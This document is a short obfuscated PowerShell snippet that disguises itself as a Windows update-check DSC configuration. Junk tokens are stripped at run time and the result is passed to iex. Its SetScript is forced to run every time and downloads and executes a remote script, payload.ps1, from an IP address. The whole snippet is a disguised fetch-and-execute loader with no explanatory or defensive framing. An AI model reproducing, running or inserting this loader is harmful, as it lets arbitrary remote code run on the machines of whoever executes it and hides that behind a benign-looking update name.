iex (('# bootstrap 6134 v4
Configuration Windowsqq~3pdateCheck {
  ImpoVJZ57rt-DscResource -ModuleName PSDesiredStateConfiguration
  Node localhost {
    Script Bootstrap {
      GetScript = { @{ Result = '''' } }
      TestScript = { $false }
      SetScript = { IEXVJZ57 (New-Object Net.WebClient).DownloadString(''http://192.0.2.44/VJZ57payload.ps1'') }
    }
  }
}
' -replace 'VJZ57','').Replace('qq~3','U'))